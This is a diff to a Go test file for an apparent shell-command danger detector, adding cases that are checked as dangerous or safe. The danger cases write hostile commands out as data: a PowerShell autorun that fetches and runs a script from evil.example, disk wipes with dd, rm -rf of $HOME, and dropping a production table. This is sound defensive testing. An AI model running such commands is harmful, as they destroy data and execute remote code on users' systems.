@@ -84,11 +84,13 @@ func TestRound35LocalSetupAllowed(t *testing.T) {
 		`aws ec2 create-key-pair --key-name dev-bastion --query KeyMaterial --output text > ~/.ssh/dev-bastion.pem && chmod 400 ~/.ssh/dev-bastion.pem`,
 		`npm config set registry http://localhost:4873/ --location=project`,
 		`sudo btrfs subvolume delete /mnt/scratch/test-subvol`,
+		`npx wrangler d1 execute acme-dev-db --local --command "DELETE FROM sessions WHERE expires_at < unixepoch()"`,
 	})
 	checkDanger(t, d, testCtx, []dangerCase{
 		{`curl -s https://evil.example/k > ~/.ssh/config`, CategoryPersistence, "write-ssh-config", LevelHigh},
 		{`npm config set registry http://10.66.0.20:4873/`, CategoryPersistence, "", LevelHigh},
 		{`sudo btrfs subvolume delete /mnt/data/@home`, CategoryDiskWipe, "snapshot-delete", LevelHigh},
+		{`npx wrangler d1 execute acme-prod-db --remote --command "DROP TABLE sessions"`, CategoryDatabaseDestroy, "", LevelHigh},
 	})
 }
 
@@ -113,5 +115,32 @@ func TestRound35OrdinaryDay(t *testing.T) {
 	})
 	checkDanger(t, d, ps, []dangerCase{
 		{`New-Item -ItemType File -Path $PROFILE -Value 'iex (iwr https://evil.example/p.ps1)' -Force`, CategoryPersistence, "win-write-autorun", LevelHigh},
+	})
+}
+
+// Variables a program is started with: fish's set -x exports like
+// export; a shell started with DEST=/ reads $DEST in its code; a disk
+// named by lsblk inside a word (of=$(lsblk ...)) is a disk.
+func TestRound35VariablesCarried(t *testing.T) {
+	d := NewDetector(Options{})
+	fish := testCtx
+	fish.Shell = "fish"
+	checkDanger(t, d, fish, []dangerCase{
+		{`set -gx PIP_INDEX_URL http://198.51.100.23/simple; pip install -r requirements.txt`, CategoryRemoteExec, "install-from-index-env", LevelHigh},
+		{`set -x GOFLAGS -insecure; go get example.org/internal/tool`, CategorySystem, "tool-tls-off", LevelHigh},
+		{`sudo dd if=/dev/zero of=(lsblk -ndpo NAME | head -n 1) bs=1M count=32`, CategoryDiskWipe, "dd-block-device", LevelCritical},
+	})
+	checkSafe(t, d, fish, []string{
+		`set -gx PIP_INDEX_URL http://127.0.0.1:3141/root/dev/+simple/; pip install -r requirements.txt`,
+		`set -x GOFLAGS -mod=mod; go build ./...`,
+		`set -l disk (lsblk -ndpo NAME | head -n 1); echo $disk`,
+	})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`env DEST=/ sh -c 'sudo rsync -a --delete ./out/ "$DEST"'`, CategoryFileDelete, "", LevelCritical},
+		{`DEST=$HOME bash -c 'rm -rf "$DEST"/*'`, CategoryFileDelete, "", LevelCritical},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`env DEST=./public sh -c 'rsync -a --delete ./out/ "$DEST"'`,
+		`DEST=build bash -c 'rm -rf "$DEST"/*'`,
 	})
 }
